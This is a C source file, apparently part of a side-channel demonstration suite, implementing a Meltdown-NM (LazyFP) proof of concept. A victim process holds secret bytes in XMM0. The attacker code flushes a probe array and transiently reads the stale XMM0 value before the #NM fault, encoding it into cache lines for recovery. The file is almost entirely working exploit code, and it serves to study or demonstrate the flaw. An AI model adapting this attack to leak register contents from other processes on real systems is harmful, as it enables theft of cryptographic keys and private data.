/*
 * Meltdown-NM (LazyFP): the kernel leaves another process's registers in the FPU and lets the first use fault.
 *
 * The victim holds the secret in XMM0. When the attacker runs next, CR0.TS is set, and its first SSE instruction
 * raises #NM, by which the kernel puts its own registers in. Until then the instruction computes with the victim's.
 */
#include "pair.h"

static const char ABOUT[] = "process 2 only: it holds the secret in XMM0";

static u8 secret[MOST] __attribute__((aligned(LINE)));

static void victim_prepare(u64 bytes)
{
    make_secret(secret, bytes);
}

static void serve(u64 index)
{
    __asm__ volatile("movq (%0), %%xmm0" : : "r"(secret + index));
}

static int prepare(u64 bytes)
{
    ignored[0] = 1; /* what the attacker's own XMM0 holds */
    return start_victim(bytes);
}

static void attempt(u64 index)
{
    flush_probe();
    flush(slow_word);
    fence();
    ask_victim(index);
    __asm__ volatile("mov slow_word, %%rcx\n\t"
                     "movq %%xmm0, %%rax\n\t"
                     "movzbl %%al, %%eax\n\t"
                     "shl $" STRIDE_SHIFT ", %%rax\n\t"
                     "movzbl probe(%%rax), %%eax" : : : "rax", "rcx", "memory");
}
